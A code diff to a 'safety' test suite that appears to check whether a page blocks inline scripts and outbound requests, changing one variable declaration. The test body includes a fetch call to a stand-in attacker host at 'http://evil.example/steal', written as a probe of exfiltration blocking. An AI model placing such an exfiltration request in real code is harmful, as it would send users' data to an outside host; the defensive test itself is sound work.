@@ -631,7 +631,7 @@ describe('safety', () => {
       const s = document.createElement('script');
       s.textContent = 'window.__inline = 1';
       document.head.append(s);
-      let fetched = 'no';
+      let fetched: string;
       try {
         await fetch('http://evil.example/steal');
         fetched = 'yes';
